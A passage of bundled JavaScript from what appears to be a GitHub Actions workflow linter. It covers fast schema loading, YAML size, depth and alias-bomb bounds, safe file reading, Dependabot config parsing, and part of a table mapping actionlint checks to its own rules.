 * GitHub's workflow and action.yml schemas, loaded fast. `@actions/workflow-parser` reads its own
 * JSON schema on first use through its template reader, validating it against the schema of
 * schemas: a fixed file validated on every run, about a fifth of the action's start-up. Here the
 * same parse events become the same tokens directly, and `new TemplateSchema` builds the same
 * definitions from them (test/validate/schema.test.ts compares both with the library's load).
 */




/** The next value of `reader` as a token tree; a schema file is finite, and each turn reads one event or throws. */
function readValue(reader) {
    const literal = reader.allowLiteral();
    if (literal)
        return literal;
    const sequence = reader.allowSequenceStart();
    if (sequence) {
        while (!reader.allowSequenceEnd())
            sequence.add(readValue(reader));
        return sequence;
    }
    const mapping = reader.allowMappingStart();
    if (mapping) {
        while (!reader.allowMappingEnd()) {
            const key = reader.allowLiteral();
            if (!key || !(0,dist/* isString */.Kg)(key))
                throw new Error('schema: a mapping key that is not a string');
            mapping.add(key, readValue(reader));
        }
        return mapping;
    }
    throw new Error('schema: unexpected end of the schema document');
}
/** `TemplateSchema.load` without validating a fixed file against the schema of schemas. */
function loadSchemaFast(reader) {
    reader.validateStart();
    const root = readValue(reader);
    reader.validateEnd();
    if (!(0,dist/* isMapping */.pi)(root))
        throw new Error('schema: the document is not a mapping');
    return new template_schema/* TemplateSchema */._(root);
}
/** Runs `get` (the library's cached schema getter) with the fast loader in place of `TemplateSchema.load`. */
function fast(get) {
    const original = template_schema/* TemplateSchema */._.load;
    template_schema/* TemplateSchema */._.load = loadSchemaFast;
    try {
        return get();
    }
    finally {
        template_schema/* TemplateSchema */._.load = original;
    }
}
let workflow;
let action;
/** The workflow schema (the library's own, loaded once and cached by it). */
function workflowSchema() {
    return (workflow ??= fast(workflow_schema/* getWorkflowSchema */.L));
}
/** The action.yml schema (the library's own, loaded once and cached by it). */
function actionSchema() {
    return (action ??= fast(action_schema/* getActionSchema */.E));
}

// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var yaml_dist = __webpack_require__(8815);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(1455);
;// CONCATENATED MODULE: ./.build/src/core/yaml-bounds.js
/**
 * Bounds on every YAML text phase-gates parses, checked before the parse in one pass of `yaml`'s
 * own Lexer (linear in the text, constant memory beyond a stack of indentation columns): its size,
 * how deeply it nests (flow brackets and block indentation levels together), how many nodes and
 * how many aliases it holds. The composer and the converters behind it are not linear on hostile
 * shapes (1 KB of `{` lines alone takes minutes and gigabytes through `parseDocument` and
 * `toJS`), so a text past a bound is refused with one line naming the input, the file and the line
 * where the bound was crossed, before any tree is built.
 */



/**
 * Deeper than GitHub's own template reader allows: the runner's PipelineTemplateEvaluator sets
 * MaxDepth = 50 (actions/runner, src/Sdk/DTPipelines/Pipelines/ObjectTemplating/
 * PipelineTemplateEvaluator.cs), so no workflow GitHub runs nests deeper, and our count (which
 * counts a value on its key's line as one more level) stays below 64 for every real file.
 */
const MAX_YAML_DEPTH = 64;
/** Aliases in the small YAML we turn into data (anchors users write; far below a bomb's fan-out). */
const MAX_YAML_ALIASES = 50;
/**
 * Most nodes of a workflow or action metadata. GitHub's parser keeps the `yaml` tree with its source
 * tokens and a template token for every node, about 2 KB a node all told, so this bound is what
 * keeps a file at 300 MB or less. No real workflow comes near it: block-style YAML takes about ten
 * bytes a node, so a workflow at GitHub's 500 KB limit holds about 50,000 (GitHub's own template
 * reader counts at most 1,000,000 events).
 */
const MAX_WORKFLOW_NODES = 100_000;
/** Configuration a person writes (a phase document, a checks list, a config file, an input). */
const CONFIG_LIKE = { maxBytes: 1024 * 1024, maxDepth: MAX_YAML_DEPTH, maxNodes: 50_000, maxAliases: MAX_YAML_ALIASES };
const YAML_BOUNDS = {
    /**
     * GitHub does not run a workflow file over 500 KB: "each workflow file must be 500 KB (512,000
     * bytes) or smaller" (https://docs.github.com/en/actions/reference/limits). The aliases a
     * workflow writes may be many (their expansion is bounded separately, in workflows/source.ts).
     */
    workflow: { what: 'a workflow', maxBytes: 512_000, maxDepth: MAX_YAML_DEPTH, maxNodes: MAX_WORKFLOW_NODES, maxAliases: 10_000, sizeNote: 'GitHub runs no workflow file over 500 KB' },
    /** Action metadata: the same reader and the same bounds as a workflow. */
    action: { what: 'action metadata', maxBytes: 512_000, maxDepth: MAX_YAML_DEPTH, maxNodes: MAX_WORKFLOW_NODES, maxAliases: 10_000 },
    /** A phase document's front matter: a few KB with a handful of gates. */
    phase: { what: 'a phase document', ...CONFIG_LIKE },
    /** A smoke-test checks list: at most 200 checks of a few keys each. */
    checks: { what: 'a checks list', ...CONFIG_LIKE },
    /** The workflows-validation config (.github/phase-gates.yml). */
    config: { what: 'a config file', ...CONFIG_LIKE },
    /** YAML given in an input (gates, metrics, provider-options, …). */
    input: { what: 'YAML input', ...CONFIG_LIKE }
};
const DOCUMENT = '\x02';
const FLOW_END = '\x18';
const SCALAR = '\x1f';
/** The 1-based line and column of the first character past `maxBytes` UTF-8 bytes of `text`. */
function positionPastBytes(text, maxBytes) {
    let bytes = 0;
    let line = 1;
    let lineStart = 0;
    for (let i = 0; i < text.length; i++) {
        const c = text.charCodeAt(i);
        bytes += c < 0x80 ? 1 : c < 0x800 ? 2 : c >= 0xd800 && c < 0xdc00 ? 4 : c >= 0xdc00 && c < 0xe000 ? 0 : 3;
        if (bytes > maxBytes)
            return { line, column: i - lineStart + 1 };
        if (c === 10) {
            line++;
            lineStart = i + 1;
        }
    }
    return { line, column: 1 };
}
/** The size refusal of a text (or file) of `size` bytes over `bounds`. */
function sizeMessage(size, bounds) {
    const n = (v) => v.toLocaleString('en-US');
    return `${bounds.what} of ${n(size)} bytes is larger than the limit of ${n(bounds.maxBytes)} bytes${bounds.sizeNote ? ` (${bounds.sizeNote})` : ''}; not parsed`;
}
/**
 * The first bound `text` crosses, or undefined. One pass of the Lexer, stopped at the first
 * problem; nothing is parsed.
 */
function yamlBoundsProblem(text, bounds) {
    if (text.length > bounds.maxBytes || Buffer.byteLength(text, 'utf8') > bounds.maxBytes) {
        const size = Buffer.byteLength(text, 'utf8');
        if (size > bounds.maxBytes)
            return { message: sizeMessage(size, bounds), ...positionPastBytes(text, bounds.maxBytes) };
    }
    let offset = 0;
    let line = 1;
    let lineStart = 0;
    let flow = 0;
    /** Columns of the open block levels, increasing. */
    const block = [];
    let nodes = 0;
    let aliases = 0;
    let afterScalarMark = false;
    const at = (message) => ({ message, line, column: offset - lineStart + 1 });
    const tooDeep = () => at(`${bounds.what} nested deeper than ${bounds.maxDepth} levels; not parsed`);
    const blockAt = (column) => {
        while (block.length && block[block.length - 1] > column)
            block.pop();
        if (!block.length || block[block.length - 1] < column)
            block.push(column);
        return block.length + flow > bounds.maxDepth;
    };
    for (const token of new yaml_dist/* Lexer */.JG().lex(text)) {
        if (token === DOCUMENT || token === FLOW_END || token === SCALAR) {
            if (token === FLOW_END)
                flow = 0;
            if (token === SCALAR)
                afterScalarMark = true;
            continue;
        }
        const column = offset - lineStart;
        const first = token[0];
        let node = false;
        if (afterScalarMark) {
            afterScalarMark = false;
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (token === '---' || token === '...') {
            flow = 0;
            block.length = 0;
        }
        else if (token === '[' || token === '{') {
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
            flow++;
            if (block.length + flow > bounds.maxDepth)
                return tooDeep();
        }
        else if (token === ']' || token === '}') {
            if (flow > 0)
                flow--;
        }
        else if (token === '-' || token === '?') {
            // A block sequence entry counts as a node (it may hold none: `-` alone is a null).
            node = token === '-';
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (first === '*') {
            node = true;
            if (++aliases > bounds.maxAliases)
                return at(`${bounds.what} with more than ${bounds.maxAliases} aliases; not parsed`);
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        else if (first === '"' || first === "'") {
            node = true;
            if (flow === 0 && blockAt(column))
                return tooDeep();
        }
        if (node && ++nodes > bounds.maxNodes)
            return at(`${bounds.what} of more than ${bounds.maxNodes.toLocaleString('en-US')} YAML nodes; not parsed`);
        let nl = token.indexOf('\n');
        while (nl >= 0) {
            line++;
            lineStart = offset + nl + 1;
            nl = token.indexOf('\n', nl + 1);
        }
        offset += token.length;
    }
    return undefined;
}
/** Throws a UserError naming input, file and line when `text` crosses one of `bounds`. */
function checkYamlBounds(text, bounds, where) {
    const problem = yamlBoundsProblem(text, bounds);
    if (problem)
        throw new core_errors/* UserError */.y(problem.message, { input: where.input, file: where.file, line: problem.line + (where.lineOffset ?? 0) });
}
/**
 * The size refusal of a file of `size` bytes, at the line where its first `bounds.maxBytes` bytes
 * end (read, not the rest of the file).
 */
async function oversizeProblem(abs, size, bounds) {
    const handle = await (0,promises_.open)(abs, 'r');
    try {
        const head = Buffer.alloc(bounds.maxBytes);
        const { bytesRead } = await handle.read(head, 0, bounds.maxBytes, 0);
        let line = 1;
        let lineStart = 0;
        for (let i = head.indexOf(10); i >= 0 && i < bytesRead; i = head.indexOf(10, i + 1)) {
            line++;
            lineStart = i + 1;
        }
        return { message: sizeMessage(size, bounds), line, column: Buffer.from(head.subarray(lineStart, bytesRead)).toString('utf8').length + 1 };
    }
    finally {
        await handle.close();
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/source.js
/**
 * Reading workflow and action files safely (internal to workflows-validation): size, encoding and
 * alias-expansion limits are checked before GitHub's parser sees the text, so that one hostile file
 * costs bounded time and memory and becomes a finding for that file instead of ending the run.
 */



/** Most YAML nodes a file may expand to through aliases (a billion-laughs file expands to ~10⁹). */
const MAX_EXPANDED_NODES = 200_000;
/** Action metadata is named action.yml or action.yaml, Dependabot's configuration dependabot.yml; everything else is taken for a workflow. */
function kindOf(relPath) {
    // `dependabot.yml`, or `<name>.dependabot.yml` (a Dependabot configuration kept under another name).
    if (/(^|\/|\.)dependabot\.ya?ml$/.test(relPath))
        return 'dependabot';
    return /(^|\/)action\.ya?ml$/.test(relPath) ? 'action' : 'workflow';
}
/** The bounds of a kind's text: GitHub's own size limit, nesting depth, nodes, aliases. */
function boundsOf(kind) {
    return kind === 'action' ? YAML_BOUNDS.action : YAML_BOUNDS.workflow;
}
/**
 * The first bound of its kind (src/core/yaml-bounds.ts) a source's text crosses, before GitHub's
 * parser sees it: that parser builds a tree and error objects without limit.
 */
function boundsProblem(source) {
    const problem = yamlBoundsProblem(source.text, boundsOf(source.kind));
    return problem && { message: problem.message, line: problem.line, column: problem.column };
}
/**
 * Reads a file as UTF-8 text, or says why not: too large (GitHub's limit: a file past it is read up
 * to the limit only, for the line), not a regular file, binary (a NUL byte) or not valid UTF-8.
 */
async function readSource(abs, bounds = YAML_BOUNDS.workflow) {
    let stat;
    try {
        stat = await external_node_fs_.promises.stat(abs);
    }
    catch (err) {
        const code = err.code;
        return { problem: { message: code === 'ENOENT' ? 'file not found' : `cannot read the file (${code})`, line: 1, column: 1 } };
    }
    if (!stat.isFile())
        return { problem: { message: 'not a regular file', line: 1, column: 1 } };
    if (stat.size > bounds.maxBytes)
        return { problem: await oversizeProblem(abs, stat.size, bounds) };
    const bytes = await external_node_fs_.promises.readFile(abs);
    const nul = bytes.indexOf(0);
    if (nul >= 0)
        return { problem: { message: 'binary file (a NUL byte), not YAML', ...positionOfByte(bytes, nul) } };
    let text;
    try {
        text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    }
    catch {
        return { problem: { message: 'not valid UTF-8 text (GitHub reads workflows as UTF-8)', ...positionOfByte(bytes, firstInvalidUtf8(bytes)) } };
    }
    if (text.charCodeAt(0) === 0xfeff)
        text = text.slice(1);
    return { text };
}
function positionOfByte(bytes, offset) {
    let line = 1;
    let lineStart = 0;
    for (let i = 0; i < offset; i++) {
        if (bytes[i] === 10) {
            line++;
            lineStart = i + 1;
        }
    }
    return { line, column: Buffer.from(bytes.subarray(lineStart, offset)).toString('utf8').length + 1 };
}
/** Offset of the first byte that does not decode as UTF-8 (a strict decode already failed). */
function firstInvalidUtf8(bytes) {
    // Bisect on prefixes that decode: cheap, and exact up to a truncated sequence at the cut.
    const decoder = new TextDecoder('utf-8', { fatal: true });
    let lo = 0;
    let hi = bytes.length;
    while (hi - lo > 4) {
        const mid = (lo + hi) >> 1;
        try {
            decoder.decode(bytes.subarray(0, mid), { stream: true });
            decoder.decode();
            lo = mid;
        }
        catch {
            hi = mid;
        }
    }
    for (let i = lo; i <= hi; i++) {
        try {
            new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(0, i + 1), { stream: true });
        }
        catch {
            return i;
        }
    }
    return lo;
}
/**
 * Refuses YAML whose aliases expand past {@link MAX_EXPANDED_NODES}. GitHub's parser resolves every
 * alias in place, so a billion-laughs file would otherwise take exponential time and memory. The
 * count is memoised per anchored node: linear in the size of the document.
 */
function aliasBomb(text) {
    // No anchor, no alias expansion: skip the second parse for the common file.
    if (!/&[^\s&*]/.test(text))
        return undefined;
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: false });
    const sizes = new Map();
    let firstAlias;
    const size = (node, depth) => {
        if (node === null || node === undefined)
            return 1;
        const known = sizes.get(node);
        if (known !== undefined)
            return known;
        if (depth > 1000)
            return MAX_EXPANDED_NODES + 1;
        let n = 1;
        if ((0,yaml_dist/* isAlias */.Vj)(node)) {
            firstAlias ??= node;
            const target = node.resolve(doc);
            // A circular alias is dropped by the parser: it expands to nothing.
            sizes.set(node, 1);
            n = target ? size(target, depth + 1) : 1;
        }
        else if ((0,yaml_dist/* isMap */.jh)(node) || (0,yaml_dist/* isSeq */.oP)(node)) {
            for (const item of node.items) {
                n += size(item, depth + 1);
                if (n > MAX_EXPANDED_NODES)
                    break;
            }
        }
        else if ((0,yaml_dist/* isPair */.tO)(node)) {
            n = size(node.key, depth + 1) + size(node.value, depth + 1);
        }
        else if (!(0,yaml_dist/* isScalar */.jn)(node)) {
            n = 1;
        }
        sizes.set(node, n);
        return n;
    };
    const total = size(doc.contents, 0);
    if (total <= MAX_EXPANDED_NODES)
        return undefined;
    const at = firstAlias?.range ? lineCounter.linePos(firstAlias.range[0]) : { line: 1, col: 1 };
    return {
        message: `YAML aliases expand to more than ${MAX_EXPANDED_NODES} nodes (an alias bomb?); not parsed`,
        line: at.line,
        column: at.col
    };
}
/** The top-level keys of a kind: a mapping with one of them is of that kind. */
function kindKeys(kind) {
    return kind === 'workflow' ? WORKFLOW_KEYS : ACTION_KEYS;
}
/** Top-level keys only a workflow has; a mapping with none of them is something else. */
const WORKFLOW_KEYS = ['on', 'jobs'];
/** Top-level keys only action metadata has. */
const ACTION_KEYS = ['runs', 'name', 'description', 'author', 'inputs', 'outputs', 'branding'];
/**
 * Says, in one line, why a file that GitHub's parser refused is not a workflow (or not action
 * metadata) at all: another file extension, several YAML documents, a top level that is not a
 * mapping, or none of the keys of its kind. Undefined for a file of the right kind with errors in
 * it: those are the parser's to report, each at its place. Only called for files with problems.
 */
function notThisKind(source) {
    const what = source.kind === 'workflow' ? 'a workflow' : 'action metadata';
    if (!/\.ya?ml$/i.test(source.path)) {
        return { message: `not ${what}: GitHub reads ${source.kind === 'workflow' ? 'workflows' : 'action metadata'} from .yml or .yaml files only`, line: 1, column: 1 };
    }
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    const docs = (0,yaml_dist/* parseAllDocuments */.hR)(source.text, { lineCounter, uniqueKeys: false });
    if (!Array.isArray(docs) || docs.length === 0 || docs[0].contents === null) {
        return { message: `not ${what}: the file holds no YAML value`, line: 1, column: 1 };
    }
    if (docs.length > 1) {
        const second = lineCounter.linePos(docs[1].range[0]);
        return { message: `not ${what}: ${docs.length} YAML documents (the second starts at line ${second.line}); GitHub reads one document per file`, line: second.line, column: 1 };
    }
    const doc = docs[0];
    if (doc.errors.length)
        return undefined;
    const top = doc.contents;
    if (!(0,yaml_dist/* isMap */.jh)(top)) {
        const shape = (0,yaml_dist/* isSeq */.oP)(top) ? 'a list' : 'a single value';
        const at = top?.range ? lineCounter.linePos(top.range[0]) : { line: 1, col: 1 };
        return { message: `not ${what}: its top level is ${shape}, not a mapping${source.kind === 'workflow' ? ' with on: and jobs:' : ' with runs:'}`, line: at.line, column: at.col };
    }
    const keys = top.items.map((p) => ((0,yaml_dist/* isScalar */.jn)(p.key) ? String(p.key.value) : '')).filter(Boolean);
    const expected = source.kind === 'workflow' ? WORKFLOW_KEYS : ACTION_KEYS;
    if (keys.some((k) => expected.includes(k)))
        return undefined;
    const listed = keys.slice(0, 5).join(', ') + (keys.length > 5 ? `, … (${keys.length} keys)` : '');
    const needs = source.kind === 'workflow' ? 'neither on: nor jobs:' : 'no runs:';
    return { message: `not ${what}: ${needs} at its top level (its keys: ${listed})`, line: 1, column: 1 };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/dependabot.js
/**
 * Dependabot's configuration (`.github/dependabot.yml`), read with the `yaml` package and a
 * LineCounter (as config.ts reads ours) into a positioned model for the dependabot rules. Only the
 * keys those rules read are modelled; a file that is no YAML mapping is one problem, not a model.
 */

/** Most `updates:` entries read (GitHub allows a few hundred; this is a bound, not a limit). */
const MAX_DEPENDABOT_UPDATES = 10_000;
function buildDependabot(source) {
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    // Aliases are never expanded: only nodes are read.
    const doc = (0,yaml_dist/* parseDocument */.Tp)(source.text, { lineCounter, uniqueKeys: true });
    const posOf = (node) => {
        const p = node?.range ? lineCounter.linePos(node.range[0]) : { line: 1, col: 1 };
        return { line: p.line, column: p.col };
    };
    if (doc.errors.length) {
        const e = doc.errors[0];
        return { problems: [{ stage: 'read', message: `invalid YAML: ${e.message.split('\n')[0]}`, at: e.linePos ? { line: e.linePos[0].line, column: e.linePos[0].col } : { line: 1, column: 1 } }] };
    }
    const root = doc.contents;
    if (!(0,yaml_dist/* isMap */.jh)(root))
        return { problems: [{ stage: 'read', message: 'not a Dependabot configuration: its top level is not a mapping with version: and updates:', at: posOf(root) }] };
    const get = (map, key) => {
        if (!(0,yaml_dist/* isMap */.jh)(map))
            return undefined;
        const pair = map.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === key);
        return pair ? { key: pair.key, value: pair.value } : undefined;
    };
    const scalar = (node) => (node && (0,yaml_dist/* isScalar */.jn)(node) ? { value: String(node.value), at: posOf(node) } : undefined);
    const updates = [];
    const list = get(root, 'updates')?.value;
    for (const item of (0,yaml_dist/* isSeq */.oP)(list) ? list.items.slice(0, MAX_DEPENDABOT_UPDATES) : []) {
        if (!(0,yaml_dist/* isMap */.jh)(item))
            continue;
        const first = item.items[0]?.key;
        const cooldown = get(item, 'cooldown');
        const days = get(cooldown?.value, 'default-days');
        const execution = get(item, 'insecure-external-code-execution');
        updates.push({
            at: posOf(first ?? item),
            ecosystem: scalar(get(item, 'package-ecosystem')?.value),
            directory: scalar(get(item, 'directory')?.value),
            cooldownKey: cooldown && { value: 'cooldown', at: posOf(cooldown.key) },
            cooldownDefaultDays: days && { value: 'default-days', at: posOf(days.key), days: (0,yaml_dist/* isScalar */.jn)(days.value) ? String(days.value.value) : '' },
            insecureExternalCodeExecution: execution && { value: 'insecure-external-code-execution', at: posOf(execution.key), setting: (0,yaml_dist/* isScalar */.jn)(execution.value) ? String(execution.value.value) : '' }
        });
    }
    return { model: { kind: 'dependabot', file: source, updates }, problems: [] };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/parse.js
/**
 * Parsing with GitHub's own `@actions/workflow-parser` (internal to workflows-validation): its
 * messages, positioned, and the model built from its token tree. A file that cannot be read or
 * parsed still yields a {@link ParsedFile}, with its problems and no model, so that one broken file
 * never hides the findings of the others.
 */









/**
 * Most messages of GitHub's parser kept for one file (GitHub's own template reader keeps 10): a
 * file of many faults would otherwise hold hundreds of thousands of error objects. The others are
 * counted and said in one more message.
 */
const MAX_PARSER_MESSAGES = 1000;
/** Longest parser message kept (GitHub's template reader cuts at 500 characters). */
const MAX_PARSER_MESSAGE_CHARS = 1000;
/** The parser's error list, keeping the first {@link MAX_PARSER_MESSAGES} and counting the rest. */
class BoundedErrors extends template_context/* TemplateValidationErrors */.R {
    dropped = 0;
    constructor() {
        super(MAX_PARSER_MESSAGES, MAX_PARSER_MESSAGE_CHARS);
    }
    add(err) {
        const before = this.count;
        super.add(err);
        this.dropped += (Array.isArray(err) ? err.length : 1) - (this.count - before);
    }
}
/**
 * Most jobs of a workflow analysed. GitHub's converter checks `needs:` in time quadratic in the
 * jobs (its validateNeeds rescans every waiting job each time one is satisfied: 2 s for 14,000
 * jobs here, about the most 500 KB holds), and nothing of ours should be; 10,000 is far above any
 * real workflow (a matrix alone may make at most 256 jobs of a run).
 */
const MAX_JOBS = 10_000;
/** The refusal of a workflow of more than {@link MAX_JOBS} jobs, at its `jobs:` key. */
function tooManyJobs(root) {
    if (!root || !(0,dist/* isMapping */.pi)(root))
        return undefined;
    for (const pair of root) {
        if (!(0,dist/* isString */.Kg)(pair.key) || pair.key.value !== 'jobs' || !(0,dist/* isMapping */.pi)(pair.value) || pair.value.count <= MAX_JOBS)
            continue;
        const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : { line: 1, column: 1 };
        return { message: `a workflow of ${pair.value.count.toLocaleString('en-US')} jobs is more than the ${MAX_JOBS.toLocaleString('en-US')} analysed; not analysed`, at };
    }
    return undefined;
}
/** Parses text already read (tests and fixtures use this directly). */
async function parseSource(source) {
    const bomb = boundsProblem(source) ?? aliasBomb(source.text);
    if (bomb)
        return { source, problems: [{ stage: 'read', message: bomb.message, at: { line: bomb.line, column: bomb.column } }] };
    if (source.kind === 'dependabot') {
        const { model, problems } = buildDependabot(source);
        return { source, problems, dependabot: model };
    }
    const file = { name: source.path, content: source.text };
    const errors = new BoundedErrors();
    const context = new template_context/* TemplateContext */.m(errors, source.kind === 'action' ? actionSchema() : workflowSchema(), new dist/* NoOperationTraceWriter */.P0());
    let result;
    try {
        result = source.kind === 'action' ? (0,action_parser/* parseAction */.w)(file, context) : (0,dist/* parseWorkflow */.hM)(file, context);
        const tooMany = source.kind === 'workflow' ? tooManyJobs(result.value) : undefined;
        if (tooMany)
            return { source, problems: [{ stage: 'read', ...tooMany }] };
        if (source.kind === 'workflow' && result.value) {
            // The converter adds GitHub's semantic checks (cron, step ids, if: conditions, …); its
            // results are discarded, only its messages kept. No file provider: local reusable workflows
            // are checked by our own rules, which know the workspace.
            await (0,dist/* convertWorkflowTemplate */.DE)(result.context, result.value, undefined, { errorPolicy: convert/* ErrorPolicy */.t.TryConversion });
        }
    }
    catch (err) {
        return { source, problems: [{ stage: 'parser', message: `the workflow parser failed: ${err.message}`, at: { line: 1, column: 1 } }] };
    }
    const problems = result.context.errors.getErrors().map((e) => ({
        stage: 'parser',
        // YAML errors come with a multi-line snippet; a finding is one line.
        message: e.rawMessage.split('\n')[0].replace(/ at line \d+, column \d+:?\s*$/, ''),
        at: e.range ? { line: e.range.start.line, column: e.range.start.column } : prefixPos(e.prefix)
    }));
    if (errors.dropped) {
        problems.push({
            stage: 'parser',
            message: `${errors.dropped.toLocaleString('en-US')} more messages of GitHub's parser in this file, not listed (the first ${MAX_PARSER_MESSAGES.toLocaleString('en-US')} are)`,
            at: { line: 1, column: 1 }
        });
    }
    if (problems.length && !ofItsKind(source, result.value)) {
        // A file that is not of this kind at all gets one line saying so, not the parser's many.
        const other = notThisKind(source);
        if (other)
            return { source, problems: [{ stage: 'read', message: other.message, at: { line: other.line, column: other.column } }] };
    }
    if (source.kind === 'action' && result.value) {
        // Descriptions are documentation: the runner never evaluates a `${{ }}` written in them
        // (e.g. an example value), though the action schema's parser checks it.
        const docs = descriptionRanges(result.value);
        for (let i = problems.length - 1; i >= 0; i--)
            if (docs.some((r) => inside(problems[i].at, r)))
                problems.splice(i, 1);
    }
    let model;
    if (result.value && (0,dist/* isMapping */.pi)(result.value)) {
        model = source.kind === 'action' ? buildAction(source, result.value) : buildWorkflow(source, result.value);
    }
    return { source, problems, model };
}
/**
 * A top level the parser read as a mapping with a key of the file's kind (`on:`/`jobs:`, `runs:` …):
 * surely of its kind, so that {@link notThisKind} need not parse the file a second time.
 */
function ofItsKind(source, root) {
    if (!root || !(0,dist/* isMapping */.pi)(root) || !/\.ya?ml$/i.test(source.path))
        return false;
    const keys = kindKeys(source.kind);
    for (const pair of root)
        if ((0,dist/* isString */.Kg)(pair.key) && keys.includes(pair.key.value))
            return true;
    return false;
}
/** `name (Line: 3, Col: 5)` → its position, for the few messages that carry no range. */
function prefixPos(prefix) {
    const m = /\(Line: (\d+), Col: (\d+)\)/.exec(prefix ?? '');
    return m ? { line: Number(m[1]), column: Number(m[2]) } : { line: 1, column: 1 };
}
/** Reads and parses one file; `path` is relative to the workspace with forward slashes. */
async function loadFile(abs, path) {
    const kind = kindOf(path);
    const read = await readSource(abs, boundsOf(kind));
    if ('problem' in read) {
        const source = { path, abs, kind, text: '' };
        return { source, problems: [{ stage: 'read', message: read.problem.message, at: { line: read.problem.line, column: read.problem.column } }] };
    }
    return parseSource({ path, abs, kind, text: read.text });
}
function inside(p, r) {
    const afterStart = p.line > r.start.line || (p.line === r.start.line && p.column >= r.start.column);
    const beforeEnd = p.line < r.end.line || (p.line === r.end.line && p.column <= r.end.column);
    return afterStart && beforeEnd;
}
/** Ranges of every `description:` value of action metadata. */
function descriptionRanges(root) {
    const ranges = [];
    for (const [parent, token, key] of template_token/* TemplateToken */.s.traverse(root)) {
        if (parent && key && (0,dist/* isString */.Kg)(key) && key.value === 'description' && token !== key && token.range)
            ranges.push(token.range);
    }
    return ranges;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/peers.js
/**
 * Where each check of the two peer linters stands here (issue 15): every actionlint check (the
 * sections of its docs/checks.md, rhysd/actionlint at 011a6d1) and every zizmor audit (the sections
 * of its docs/audits.md, zizmorcore/zizmor at 11bbf7e) → the rule(s) that find the same faults, the
 * rule name planned for it, or why not. docs/rules.md renders this table (test/rules/docs.test.ts);
 * test/rules/peers.test.ts checks that every rule named exists and every planned name does not yet.
 * test/validate/real-corpus.test.ts matches actionlint's findings (by `kind`) to ours through it.
 */
const AL = 'https://github.com/rhysd/actionlint/blob/main/docs/checks.md';
const ZZ = 'https://docs.zizmor.sh/audits/';
/** actionlint's checks, in the order of its docs/checks.md. */
const ACTIONLINT_CHECKS = [
    { check: 'check-unexpected-keys', title: 'Unexpected keys', rules: ['workflow-syntax'], kinds: ['syntax-check'] },
    { check: 'check-missing-required-duplicate-keys', title: 'Missing required keys and key duplicates', rules: ['workflow-syntax'], kinds: ['syntax-check'] },
    { check: 'check-empty-mapping', title: 'Unexpected empty mappings', rules: ['workflow-syntax'], kinds: ['syntax-check'] },
    { check: 'check-mapping-values', title: 'Unexpected mapping values', rules: ['workflow-syntax'], kinds: ['syntax-check'] },
    { check: 'check-syntax-expression', title: 'Syntax check for expression `${{ }}`', rules: ['expression-syntax'], kinds: ['expression'] },
    { check: 'check-type-check-expression', title: 'Type checks for expression syntax in `${{ }}`', rules: ['type-mismatch', 'function-arguments', 'unknown-property'], note: 'beyond actionlint, `github.event` is typed by the workflow\'s triggers (GitHub\'s webhooks OpenAPI spec)', kinds: ['expression'] },
    { check: 'check-contexts-and-builtin-func', title: 'Contexts and built-in functions', rules: ['unknown-context', 'unknown-function'], kinds: ['expression'] },
    { check: 'check-contextual-step-object', title: 'Contextual typing for `steps.<step_id>` objects', rules: ['step-outputs-reference'], kinds: ['expression'] },
    { check: 'check-contextual-matrix-object', title: 'Contextual typing for `matrix` object', rules: ['unknown-property'], kinds: ['expression'] },
    { check: 'check-contextual-needs-object', title: 'Contextual typing for `needs` object', rules: ['needs-outputs-reference', 'needs-unknown-job'], kinds: ['expression'] },
    { check: 'check-comparison-types', title: 'Strict type checks for comparison operators', rules: ['type-mismatch'], kinds: ['expression'] },
    { check: 'check-shellcheck-integ', title: 'shellcheck integration for `run:`', rules: ['shellcheck'], kinds: ['shellcheck'] },
    { check: 'check-pyflakes-integ', title: 'pyflakes integration for `run:`', rules: [], note: 'not planned: needs pyflakes on the runner, and `shell: python` steps are rare in real workflows (none in the corpus)', kinds: ['pyflakes'] },
    { check: 'untrusted-inputs', title: 'Script injection by potentially untrusted inputs', rules: ['untrusted-input-in-script'], kinds: ['expression'] },
    { check: 'check-job-deps', title: 'Job dependencies validation', rules: ['needs-unknown-job', 'needs-cycle'], kinds: ['job-needs'] },
    { check: 'check-matrix-values', title: 'Matrix values', rules: ['matrix-values'], kinds: ['matrix'] },
    { check: 'check-webhook-events', title: 'Webhook events validation', rules: ['workflow-syntax'], note: 'event names and activity types, from GitHub\'s workflow schema', kinds: ['events'] },
    { check: 'check-workflow-dispatch-events', title: 'Workflow dispatch event validation', rules: ['workflow-syntax', 'unknown-property'], note: 'input definitions from the schema; `inputs.*` references typed from them', kinds: ['events'] },
    { check: 'check-glob-pattern', title: 'Glob filter pattern syntax validation', rules: ['filter-glob'], kinds: ['glob'] },
    { check: 'check-cron-syntax-and-timezone', title: 'CRON syntax and IANA timezone string at `on.schedule`', rules: ['workflow-syntax'], note: 'cron syntax from GitHub\'s parser; the timezone string is not checked', kinds: ['events'] },
    { check: 'check-runner-labels', title: 'Runner labels', rules: ['runner-label'], kinds: ['runner-label'] },
    { check: 'check-action-format', title: 'Action format in `uses:`', rules: ['workflow-syntax', 'uses-syntax', 'missing-local-file'], kinds: ['action'] },
    { check: 'check-local-action-inputs', title: 'Local action inputs validation at `with:`', rules: ['local-action-inputs'], kinds: ['action'] },
    { check: 'check-popular-action-inputs', title: 'Popular action inputs validation at `with:`', rules: ['popular-action-inputs'], kinds: ['action'] },
    { check: 'detect-outdated-popular-actions', title: 'Outdated popular actions detection at `uses:`', rules: ['outdated-action-runtime'], kinds: ['action'] },
